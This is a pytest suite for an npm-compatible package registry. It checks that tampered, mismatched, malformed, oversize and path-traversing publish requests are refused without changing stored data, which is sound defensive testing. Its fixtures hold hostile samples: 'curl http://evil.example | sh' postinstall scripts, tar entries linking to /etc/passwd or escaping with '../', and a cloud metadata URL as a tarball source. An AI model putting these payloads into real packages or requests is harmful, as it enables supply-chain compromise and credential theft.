"""Publish payloads (adversarial.md §4.2): tampered attachments, manifest/tarball mismatches, unsafe
tarballs, malformed and oversize bodies. Each refusal is an npm-shaped 4xx and leaves nothing behind:
no version row, no blob (checks that run before storage), and existing versions byte-identical."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from tests.support.listener import Listener

ROOT = Path(__file__).resolve().parents[2]
MANIFEST_CHECK = (ROOT / "ketch" / "registry" / "manifest_check.py").exists()
needs_manifest_check = pytest.mark.skipif(
    not MANIFEST_CHECK, reason="ketch/registry/manifest_check.py is not written yet (stubbed)")


def blob_files(reg) -> set[str]:
    root = reg.settings.data_dir / "tarballs"
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


class Snapshot:
    """What a refused request must not change: the blobs and the named package's served state."""

    def __init__(self, reg, name: str):
        self.reg, self.name = reg, name
        self.blobs = blob_files(reg)
        self.full = reg.packument(name).content
        self.abbreviated = reg.packument(name, abbreviated=True).content

    def assert_unchanged(self, *, blobs: bool = True) -> None:
        if blobs:
            assert blob_files(self.reg) == self.blobs, "a refused publish stored a blob"
        assert self.reg.packument(self.name).content == self.full, "the full packument changed"
        assert self.reg.packument(self.name, abbreviated=True).content == self.abbreviated


def attachment(body: dict) -> dict:
    (att,) = body["_attachments"].values()
    return att


def body_with_tarball(reg, name: str, version: str, data: bytes) -> dict:
    """A publish body whose attachment is ``data`` with honest integrity, shasum and length."""
    return reg.publish_body(name, version, tarball=data)


# ---- P01 / P02: integrity and shasum --------------------------------------------------------

def test_p01_integrity_mismatch(reg, alice):
    name = reg.unique("p01")
    snap = Snapshot(reg, name)
    body = reg.publish_body(name, "1.0.0")
    body["versions"]["1.0.0"]["dist"]["integrity"] = reg.integrity_of(b"other bytes")
    reg.assert_error(reg.put_json("/" + name, body, alice), 400, contains="integrity")
    snap.assert_unchanged()
    reg.assert_error(reg.packument(name), 404)


def test_p01_integrity_mismatch_on_an_existing_package(reg, alice):
    name = reg.unique("p01b")
    reg.publish_ok(alice, name, "1.0.0")
    snap = Snapshot(reg, name)
    body = reg.publish_body(name, "1.1.0")
    att = attachment(body)
    tampered = bytearray(base64.b64decode(att["data"]))
    tampered[-5] ^= 0xFF
    att["data"] = base64.b64encode(bytes(tampered)).decode()  # integrity/shasum still of the original
    reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    snap.assert_unchanged()


@pytest.mark.parametrize("integrity", ["sha512-", "sha512-AAAA", "md5-abc", "", "sha512-%%%", 42, ["sha512-x"]])
def test_p01_malformed_integrity_values(reg, alice, integrity):
    name = reg.unique("p01c")
    body = reg.publish_body(name, "1.0.0")
    body["versions"]["1.0.0"]["dist"]["integrity"] = integrity
    reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    reg.assert_error(reg.packument(name), 404)


def test_p02_wrong_shasum_without_integrity(reg, alice):
    name = reg.unique("p02")
    snap = Snapshot(reg, name)
    body = reg.publish_body(name, "1.0.0")
    del body["versions"]["1.0.0"]["dist"]["integrity"]
    body["versions"]["1.0.0"]["dist"]["shasum"] = "0" * 40
    reg.assert_error(reg.put_json("/" + name, body, alice), 400, contains="shasum")
    snap.assert_unchanged()


def test_p02_right_integrity_wrong_shasum(reg, alice):
    name = reg.unique("p02b")
    body = reg.publish_body(name, "1.0.0")
    body["versions"]["1.0.0"]["dist"]["shasum"] = "f" * 40
    reg.assert_error(reg.put_json("/" + name, body, alice), 400, contains="shasum")
    reg.assert_error(reg.packument(name), 404)


def test_p02_no_digest_at_all(reg, alice):
    name = reg.unique("p02c")
    body = reg.publish_body(name, "1.0.0")
    body["versions"]["1.0.0"]["dist"] = {"tarball": "http://x/y.tgz"}
    reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    del body["versions"]["1.0.0"]["dist"]
    reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    reg.assert_error(reg.packument(name), 404)


# ---- P04: attachment encoding --------------------------------------------------------------

@pytest.mark.parametrize("mutation", ["not-base64", "url-safe", "whitespace", "empty", "null", "number",
                                      "missing", "length-lies", "wrong-key", "two-tarballs"])
def test_p04_bad_attachment_data(reg, alice, mutation):
    name = reg.unique("p04")
    snap = Snapshot(reg, name)
    # A tarball whose base64 surely contains both '+' and '/', so the URL-safe alphabet differs.
    filler = bytes(range(256)) * 4
    body = reg.publish_body(name, "1.0.0", files={"bin.dat": filler})
    att = attachment(body)
    data = att["data"]
    if mutation == "not-base64":
        att["data"] = "!!!this is not base64!!!"
    elif mutation == "url-safe":
        assert "+" in data or "/" in data
        att["data"] = data.replace("+", "-").replace("/", "_")
    elif mutation == "whitespace":
        att["data"] = data[:20] + "\n " + data[20:]
    elif mutation == "empty":
        att["data"] = ""
    elif mutation == "null":
        att["data"] = None
    elif mutation == "number":
        att["data"] = 12345
    elif mutation == "missing":
        del att["data"]
    elif mutation == "length-lies":
        att["length"] = att["length"] + 1
    elif mutation == "wrong-key":
        body["_attachments"] = {f"{name}-9.9.9.tgz": att}
    elif mutation == "two-tarballs":
        body["_attachments"][f"{name}-1.0.1.tgz"] = dict(att)
    reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    snap.assert_unchanged()


# ---- P05: manifest confusion ----------------------------------------------------------------

MISMATCHES = {
    "dependencies": {"dependencies": {"left-pad": "1.3.0"}},
    "scripts": {"scripts": {"postinstall": "curl http://evil.example | sh"}},
    "bin": {"bin": {"ls": "./evil.js"}},
    "engines": {"engines": {"node": ">=99"}},
    "os": {"os": ["linux"]},
    "cpu": {"cpu": ["x64"]},
    "optionalDependencies": {"optionalDependencies": {"evil": "*"}},
    "peerDependencies": {"peerDependencies": {"evil": "*"}},
}


@needs_manifest_check
@pytest.mark.parametrize("field", sorted(MISMATCHES))
def test_p05_manifest_differs_from_tarball_package_json(reg, alice, field):
    name = reg.unique("p05")
    snap = Snapshot(reg, name)
    packed = reg.default_manifest(name, "1.0.0")               # what is really in the tarball
    claimed = dict(packed, **MISMATCHES[field])              # what the registry would serve
    tarball = reg.make_tarball(packed, {"index.js": "1;\n"})
    body = reg.publish_body(name, "1.0.0", manifest=claimed, tarball=tarball)
    err = reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    assert field in err["error"], f"the error does not name the mismatched field {field!r}: {err['error']}"
    snap.assert_unchanged()


@needs_manifest_check
def test_p05_tarball_hides_an_install_script_the_manifest_omits(reg, alice):
    name = reg.unique("p05b")
    packed = reg.default_manifest(name, "1.0.0", scripts={"preinstall": "node evil.js"})
    claimed = reg.default_manifest(name, "1.0.0")
    body = reg.publish_body(name, "1.0.0", manifest=claimed, tarball=reg.make_tarball(packed))
    err = reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    assert "scripts" in err["error"]
    reg.assert_error(reg.packument(name), 404)


@pytest.mark.parametrize("field, value", [("name", "other-name"), ("version", "9.9.9")])
def test_p05_tarball_name_or_version_differs(reg, alice, field, value):
    """Whatever else the manifest check does, the tarball must be the package it claims to be."""
    name = reg.unique("p05c")
    packed = dict(reg.default_manifest(name, "1.0.0"), **{field: value})
    body = reg.publish_body(name, "1.0.0", manifest=reg.default_manifest(name, "1.0.0"),
                            tarball=reg.make_tarball(packed))
    if not MANIFEST_CHECK:
        pytest.skip("ketch/registry/manifest_check.py is not written yet (stubbed)")
    err = reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    assert field in err["error"]
    reg.assert_error(reg.packument(name), 404)


def test_p05_tarball_without_package_json(reg, alice):
    name = reg.unique("p05d")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("package/index.js")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"1;"))
    body = body_with_tarball(reg, name, "1.0.0", gzip.compress(buf.getvalue()))
    reg.assert_error(reg.put_json("/" + name, body, alice), 400, contains="package.json")
    reg.assert_error(reg.packument(name), 404)


# ---- P07: not a gzip'd tar --------------------------------------------------------------------

def _zip_bytes(manifest: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("package/package.json", json.dumps(manifest))
    return buf.getvalue()


@pytest.mark.parametrize("kind", ["plain-tar", "truncated", "trailing-bytes", "gzip-of-zip", "tgz-zip-polyglot",
                                  "zip", "random", "gzip-of-garbage", "two-gzip-members"])
def test_p07_not_a_tgz(reg, alice, kind):
    name = reg.unique("p07")
    manifest = reg.default_manifest(name, "1.0.0")
    tgz = reg.make_tarball(manifest)
    data = {
        "plain-tar": lambda: gzip.decompress(tgz),
        "truncated": lambda: tgz[: len(tgz) // 2],
        "trailing-bytes": lambda: tgz + b"trailing garbage",
        "gzip-of-zip": lambda: gzip.compress(_zip_bytes(manifest)),
        "tgz-zip-polyglot": lambda: tgz + _zip_bytes(manifest),
        "zip": lambda: _zip_bytes(manifest),
        "random": lambda: bytes(range(256)) * 8,
        "gzip-of-garbage": lambda: gzip.compress(b"\x00\x01garbage" * 100),
        "two-gzip-members": lambda: tgz + gzip.compress(b"x" * 1024),
    }[kind]()
    snap = Snapshot(reg, name)
    reg.assert_error(reg.put_json("/" + name, body_with_tarball(reg, name, "1.0.0", data), alice), 400)
    snap.assert_unchanged()


# ---- P08: unsafe tar members ------------------------------------------------------------------

def _tar_with(manifest: dict, *members: tuple[tarfile.TarInfo, bytes | None], fmt=tarfile.PAX_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        pj = json.dumps(manifest).encode()
        info = tarfile.TarInfo("package/package.json")
        info.size = len(pj)
        tar.addfile(info, io.BytesIO(pj))
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def _member(path: str, data: bytes = b"x", type_=tarfile.REGTYPE, linkname: str = "") -> tuple:
    info = tarfile.TarInfo(path)
    info.type = type_
    info.linkname = linkname
    if type_ in (tarfile.REGTYPE, tarfile.AREGTYPE):
        info.size = len(data)
        return info, data
    return info, None


def _sparse_tar(manifest: dict) -> bytes:
    raw = bytearray(_tar_with(manifest, _member("package/sparse", b"abc"), fmt=tarfile.USTAR_FORMAT))
    offset = next(i for i in range(0, len(raw), 512) if raw[i:i + 15] == b"package/sparse\x00")
    raw[offset + 156:offset + 157] = b"S"  # GNU sparse type flag
    header = raw[offset:offset + 512]
    header[148:156] = b" " * 8
    raw[offset + 148:offset + 156] = (b"%06o\x00 " % sum(header))
    return bytes(raw)


def _pax_huge(manifest: dict) -> bytes:
    info, data = _member("package/big", b"x")
    info.pax_headers = {"size": "99999999999999999999"}
    return _tar_with(manifest, (info, data))


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "dotdot-middle", "symlink-out", "symlink-in", "hardlink-out",
                                  "hardlink-in", "fifo", "chardev", "blockdev", "second-top-dir", "sparse",
                                  "pax-huge-size", "backslash-dotdot"])
def test_p08_unsafe_tar_entries_are_refused_and_nothing_is_written(reg, alice, tmp_path, kind):
    name = reg.unique("p08")
    manifest = reg.default_manifest(name, "1.0.0")
    raw = {
        "absolute": lambda: _tar_with(manifest, _member("/tmp/ketch-p08-pwned")),
        "dotdot": lambda: _tar_with(manifest, _member("package/../../ketch-p08-pwned")),
        "dotdot-middle": lambda: _tar_with(manifest, _member("package/a/../../../ketch-p08-pwned")),
        "symlink-out": lambda: _tar_with(manifest, _member("package/evil", type_=tarfile.SYMTYPE, linkname="/etc/passwd")),
        "symlink-in": lambda: _tar_with(manifest, _member("package/evil", type_=tarfile.SYMTYPE, linkname="index.js")),
        "hardlink-out": lambda: _tar_with(manifest, _member("package/evil", type_=tarfile.LNKTYPE, linkname="/etc/passwd")),
        "hardlink-in": lambda: _tar_with(manifest, _member("package/evil", type_=tarfile.LNKTYPE,
                                                           linkname="package/package.json")),
        "fifo": lambda: _tar_with(manifest, _member("package/fifo", type_=tarfile.FIFOTYPE)),
        "chardev": lambda: _tar_with(manifest, _member("package/null", type_=tarfile.CHRTYPE)),
        "blockdev": lambda: _tar_with(manifest, _member("package/sda", type_=tarfile.BLKTYPE)),
        "second-top-dir": lambda: _tar_with(manifest, _member("other/x")),
        "sparse": lambda: _sparse_tar(manifest),
        "pax-huge-size": lambda: _pax_huge(manifest),
        "backslash-dotdot": lambda: _tar_with(manifest, _member("package\\..\\..\\ketch-p08-pwned")),
    }[kind]()
    snap = Snapshot(reg, name)
    pwned = [Path("/tmp/ketch-p08-pwned"), reg.settings.data_dir.parent / "ketch-p08-pwned",
             reg.settings.data_dir / "ketch-p08-pwned", Path.cwd() / "ketch-p08-pwned"]
    resp = reg.put_json("/" + name, body_with_tarball(reg, name, "1.0.0", gzip.compress(raw)), alice)
    reg.assert_error(resp, 400)
    snap.assert_unchanged()
    assert not any(p.exists() for p in pwned)


# ---- P10: oversize bodies with an honest Content-Length ---------------------------------------

def test_p10_publish_body_over_the_cap_is_413(small_reg):
    reg = small_reg
    user = reg.signup("big")
    name = reg.unique("p10")
    snap = Snapshot(reg, name)
    body = reg.publish_body(name, "1.0.0", files={"big.bin": os.urandom(300_000)})  # incompressible
    raw = json.dumps(body).encode()
    assert len(raw) > reg.settings.max_body_size
    start = time.perf_counter()
    resp = reg.client.put("/" + name, content=raw, headers={"content-type": "application/json", **user.auth})
    reg.assert_error(resp, 413)
    assert time.perf_counter() - start < 2
    snap.assert_unchanged()
    # a publish under the cap goes through: the 413 was about size only
    reg.publish_ok(user, name, "1.0.0")
    assert len(blob_files(reg)) == len(snap.blobs) + 1


def test_p10_declared_length_over_the_cap_is_refused_before_reading(small_reg):
    reg = small_reg
    user = reg.signup("big")
    resp = reg.client.put("/" + reg.unique("p10b"), content=b"{}",
                          headers={"content-type": "application/json", "content-length": "100000000", **user.auth})
    reg.assert_error(resp, 413)


@pytest.mark.parametrize("path, method", [("/-/package/{name}/dist-tags/beta", "PUT"), ("/-/npm/v1/tokens", "POST"),
                                          ("/-/user/org.couchdb.user:{user}", "PUT")])
def test_p10_small_json_endpoints_have_a_smaller_cap(small_reg, path, method):
    reg = small_reg
    user = reg.signup("cap")
    name = reg.unique("p10c")
    reg.publish_ok(user, name)
    raw = json.dumps({"password": user.password, "name": user.name, "pad": "x" * (reg.settings.max_json_body * 2)})
    resp = reg.client.request(method, path.format(name=name, user=user.name), content=raw.encode(),
                              headers={"content-type": "application/json", **user.auth})
    reg.assert_error(resp, 413)


# ---- P11: malformed JSON -------------------------------------------------------------------------

def _good(reg, name: str) -> bytes:
    return json.dumps(reg.publish_body(name, "1.0.0")).encode()


@pytest.mark.parametrize("kind", ["malformed", "trailing-garbage", "top-level-array", "top-level-string",
                                  "top-level-null", "bom", "invalid-utf8", "empty", "whitespace", "nan",
                                  "single-quotes", "truncated"])
def test_p11_malformed_json_is_400(reg, alice, kind):
    name = reg.unique("p11")
    good = _good(reg, name)
    raw = {
        "malformed": b"{not json",
        "trailing-garbage": good + b" garbage",
        "top-level-array": b"[" + good + b"]",
        "top-level-string": b'"hello"',
        "top-level-null": b"null",
        "bom": b"\xef\xbb\xbf" + good,
        "invalid-utf8": good.replace(b'"description": "', b'"description": "\xff\xfe'),
        "empty": b"",
        "whitespace": b"   \n ",
        "nan": good.replace(b'"length": ', b'"length": NaN, "x": '),
        "single-quotes": b"{'name': 'x'}",
        "truncated": good[: len(good) // 2],
    }[kind]
    snap = Snapshot(reg, name)
    resp = reg.client.put("/" + name, content=raw, headers={"content-type": "application/json", **alice.auth})
    reg.assert_error(resp, 400)
    snap.assert_unchanged()


@pytest.mark.parametrize("ctype", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                                   "application/octet-stream"])
def test_p11_wrong_content_type_is_415(reg, alice, ctype):
    name = reg.unique("p11b")
    resp = reg.client.put("/" + name, content=_good(reg, name), headers={"content-type": ctype, **alice.auth})
    reg.assert_error(resp, 415)
    reg.assert_error(reg.packument(name), 404)


def test_p11_gzip_request_body_is_refused(reg, alice):
    name = reg.unique("p11c")
    resp = reg.client.put("/" + name, content=gzip.compress(_good(reg, name)),
                          headers={"content-type": "application/json", "content-encoding": "gzip", **alice.auth})
    reg.assert_error(resp, 415, 400)
    reg.assert_error(reg.packument(name), 404)


# ---- P13: JSON bombs --------------------------------------------------------------------------

@pytest.mark.parametrize("kind", ["deep-arrays", "deep-objects", "huge-number", "huge-negative-exponent",
                                  "deep-in-manifest"])
def test_p13_json_bombs_are_400_fast(reg, alice, kind):
    name = reg.unique("p13")
    raw = {
        "deep-arrays": b"[" * 10000 + b"]" * 10000,
        "deep-objects": b'{"a":' * 10000 + b"1" + b"}" * 10000,
        "huge-number": b'{"name":"' + name.encode() + b'","x":1e999999}',
        "huge-negative-exponent": b'{"name":"' + name.encode() + b'","x":-1e999999}',
        "deep-in-manifest": _good(reg, name).replace(b'"license": "MIT"', b'"license": ' + b"[" * 5000 + b"]" * 5000),
    }[kind]
    start = time.perf_counter()
    resp = reg.client.put("/" + name, content=raw, headers={"content-type": "application/json", **alice.auth})
    reg.assert_error(resp, 400)
    assert time.perf_counter() - start < 1.0
    reg.assert_error(reg.packument(name), 404)


@pytest.mark.parametrize("where", ["manifest-only", "manifest-and-tarball"])
def test_p13_a_million_dependencies_is_400_within_a_second(reg, alice, where):
    """An 18 MB body whose manifest lists 1,000,000 dependencies: 400 in under a second, nothing stored.
    (Timed at the ASGI boundary: the in-process HTTP client's own cost for 18 MB would swamp it.)"""
    name = reg.unique("p13m")
    deps = "{" + ",".join(f'"d{i}":"1.0.0"' for i in range(1_000_000)) + "}"
    tarball = None
    if where == "manifest-and-tarball":  # the tarball agrees: only a size rule can refuse it
        packed = json.dumps(reg.default_manifest(name, "1.0.0", dependencies="__DEPS__")).replace('"__DEPS__"', deps)
        tarball = reg.make_tarball(packed.encode())
    body = reg.publish_body(name, "1.0.0", manifest=reg.default_manifest(name, "1.0.0"), tarball=tarball)
    body["versions"]["1.0.0"]["dependencies"] = "__DEPS__"
    raw = json.dumps(body).replace('"__DEPS__"', deps).encode()
    assert len(raw) > 15_000_000
    snap = Snapshot(reg, name)
    elapsed, status, answer = reg.asgi_timed("PUT", "/" + name, raw,
                                             {"content-type": "application/json", **alice.auth})
    assert status in (400, 413), answer[:300]
    assert isinstance(json.loads(answer)["error"], str)
    snap.assert_unchanged()
    assert elapsed < 1.0, f"refusing 1,000,000 dependencies took {elapsed:.2f}s"


# ---- P14: more or other versions than one publish may carry --------------------------------

def test_p14_two_versions_in_one_put(reg, alice):
    name = reg.unique("p14")
    reg.publish_ok(alice, name, "1.0.0")
    snap = Snapshot(reg, name)
    b1, b2 = reg.publish_body(name, "1.1.0"), reg.publish_body(name, "1.2.0")
    b1["versions"].update(b2["versions"])
    b1["_attachments"].update(b2["_attachments"])
    reg.assert_error(reg.put_json("/" + name, b1, alice), 400)
    snap.assert_unchanged()


def test_p14_version_smuggled_without_attachment(reg, alice):
    name = reg.unique("p14b")
    reg.publish_ok(alice, name, "1.0.0")
    snap = Snapshot(reg, name)
    b1, b2 = reg.publish_body(name, "1.1.0"), reg.publish_body(name, "1.2.0")
    b1["versions"].update(b2["versions"])  # 1.2.0 rides along with no tarball
    reg.assert_error(reg.put_json("/" + name, b1, alice), 400)
    # and through the metadata path (no attachments at all)
    doc = reg.doc(name, write=True)
    doc["versions"]["1.3.0"] = dict(doc["versions"]["1.0.0"], version="1.3.0", _id=f"{name}@1.3.0")
    reg.assert_error(reg.put_json("/" + name, doc, alice), 400)
    doc["_attachments"] = {}
    reg.assert_error(reg.put_json("/" + name, doc, alice), 400)
    snap.assert_unchanged()


def test_p14_existing_version_manifest_cannot_be_rewritten(reg, alice):
    name = reg.unique("p14c")
    reg.publish_ok(alice, name, "1.0.0")
    tarball_before = reg.tarball(name, "1.0.0").content
    snap = Snapshot(reg, name)
    # a publish of the same number with new dependencies
    manifest = reg.default_manifest(name, "1.0.0", dependencies={"evil": "1.0.0"})
    reg.assert_error(reg.publish(alice, name, "1.0.0", manifest=manifest), 403)
    # a metadata PUT that edits the stored manifest
    doc = reg.doc(name, write=True)
    doc["versions"]["1.0.0"]["dependencies"] = {"evil": "*"}
    doc["versions"]["1.0.0"]["scripts"] = {"postinstall": "curl http://evil.example | sh"}
    doc["versions"]["1.0.0"]["dist"]["tarball"] = "http://evil.example/x.tgz"
    doc["versions"]["1.0.0"]["dist"]["integrity"] = reg.integrity_of(b"evil")
    resp = reg.put_json("/" + name, doc, alice)
    assert resp.status_code in (200, 201, 400, 403), resp.text
    snap.assert_unchanged(blobs=False)
    assert reg.tarball(name, "1.0.0").content == tarball_before


# ---- P16: dist-tags in the publish body -----------------------------------------------------

@pytest.mark.parametrize("tags", [{"latest": "1.0.0"}, {"latest": "9.9.9"}, {"beta": "1.1.0", "latest": "1.0.0"},
                                  {"latest": ["1.1.0"]}, {"1.x": "1.1.0"}, {"": "1.1.0"}, ["latest"]])
def test_p16_publish_dist_tags_must_point_at_the_new_version(reg, alice, tags):
    name = reg.unique("p16")
    reg.publish_ok(alice, name, "1.0.0")
    snap = Snapshot(reg, name)
    body = reg.publish_body(name, "1.1.0")
    body["dist-tags"] = tags
    reg.assert_error(reg.put_json("/" + name, body, alice), 400)
    snap.assert_unchanged()


def test_p16_publish_with_a_custom_tag_keeps_latest(reg, alice):
    name = reg.unique("p16b")
    reg.publish_ok(alice, name, "1.0.0")
    reg.publish_ok(alice, name, "2.0.0-beta.1", tag="beta")
    assert reg.doc(name)["dist-tags"] == {"latest": "1.0.0", "beta": "2.0.0-beta.1"}
    # a first publish under a non-latest tag still gets a latest tag (every package has one)
    other = reg.unique("p16c")
    reg.publish_ok(alice, other, "1.0.0-rc.1", tag="next")
    assert reg.doc(other)["dist-tags"] == {"latest": "1.0.0-rc.1", "next": "1.0.0-rc.1"}


# ---- P17: dist.tarball from the client is ignored, and never fetched -------------------------

def test_p17_client_tarball_url_is_ignored_and_never_fetched(reg, alice):
    listener = Listener()
    try:
        name = reg.unique("p17")
        evil = [f"http://127.0.0.1:{listener.port}/latest/meta-data/", "http://169.254.169.254/latest/meta-data/",
                f"http://evil.example:{listener.port}/x.tgz"]
        for i, url in enumerate(evil):
            body = reg.publish_body(name, f"1.{i}.0")
            body["versions"][f"1.{i}.0"]["dist"]["tarball"] = url
            reg.assert_ok(reg.put_json("/" + name, body, alice), 201)
        doc = reg.doc(name)
        for i in range(len(evil)):
            assert doc["versions"][f"1.{i}.0"]["dist"]["tarball"] == f"http://testserver/{name}/-/{name}-1.{i}.0.tgz"
        reg.doc(name, abbreviated=True)
        reg.tarball(name, "1.0.0")
        time.sleep(0.3)
        assert listener.connections == 0, "the registry connected to the client-supplied tarball URL"
        raw = reg.packument(name).text
        assert "169.254.169.254" not in raw and str(listener.port) not in raw
    finally:
        listener.close()


# ---- P19 / P20: re-publishing an existing version ----------------------------------------------

def test_p19_identical_retry_is_refused_with_npms_text(reg, alice):
    """Ketch's documented choice: a retry of an acknowledged publish, even byte-identical, gets npm's
    403 (not an idempotent 200). npm and pnpm treat it as a normal publish error."""
    name = reg.unique("p19")
    body = reg.publish_body(name, "1.0.0")
    reg.assert_ok(reg.put_json("/" + name, body, alice), 201)
    snap = Snapshot(reg, name)
    err = reg.assert_error(reg.put_json("/" + name, body, alice), 403)
    assert err["error"] == "You cannot publish over the previously published versions: 1.0.0."
    snap.assert_unchanged()


def test_p20_different_bytes_are_refused(reg, alice):
    name = reg.unique("p20")
    reg.publish_ok(alice, name, "1.0.0")
    before = reg.tarball(name, "1.0.0").content
    snap = Snapshot(reg, name)
    err = reg.assert_error(reg.publish(alice, name, "1.0.0", files={"extra.js": "evil();\n"}), 403)
    assert err["error"] == "You cannot publish over the previously published versions: 1.0.0."
    snap.assert_unchanged(blobs=False)  # the refused blob may stay behind as an orphan until GC
    assert reg.tarball(name, "1.0.0").content == before


# ---- P22: a deprecate PUT changes only `deprecated` ---------------------------------------------

def test_p22_deprecate_put_cannot_change_anything_else(reg, alice):
    name = reg.unique("p22")
    reg.publish_ok(alice, name, "1.0.0")
    reg.publish_ok(alice, name, "1.1.0")
    before = reg.doc(name)
    doc = reg.doc(name, write=True)
    v = doc["versions"]["1.0.0"]
    v["deprecated"] = "use 1.1.0"
    v["dependencies"] = {"evil": "*"}
    v["scripts"] = {"postinstall": "curl http://evil.example | sh"}
    v["bin"] = {"ls": "evil.js"}
    v["dist"]["integrity"] = reg.integrity_of(b"evil")
    doc["dist-tags"] = {"latest": "1.0.0", "evil": "1.0.0"}
    doc["maintainers"] = [{"name": "mallory", "email": "m@evil.example"}]
    doc["description"] = "hijacked"
    resp = reg.put_json("/" + name, doc, alice)
    if resp.status_code >= 400:
        reg.assert_error(resp, 400)
        assert reg.doc(name) == before
        return
    after = reg.doc(name)
    assert after["versions"]["1.0.0"]["deprecated"] == "use 1.1.0"
    for key in ("dependencies", "scripts", "bin", "dist"):
        assert after["versions"]["1.0.0"].get(key) == before["versions"]["1.0.0"].get(key), key
    assert after["versions"]["1.1.0"] == before["versions"]["1.1.0"]
    assert after["dist-tags"] == before["dist-tags"]
    assert after["maintainers"] == before["maintainers"]
    assert after.get("description") == before.get("description")


def test_p22_deprecate_put_cannot_add_a_version(reg, alice):
    name = reg.unique("p22b")
    reg.publish_ok(alice, name, "1.0.0")
    snap = Snapshot(reg, name)
    doc = reg.doc(name, write=True)
    doc["versions"]["1.0.0"]["deprecated"] = "old"
    doc["versions"]["2.0.0"] = dict(doc["versions"]["1.0.0"], version="2.0.0")
    reg.assert_error(reg.put_json("/" + name, doc, alice), 400)
    snap.assert_unchanged()
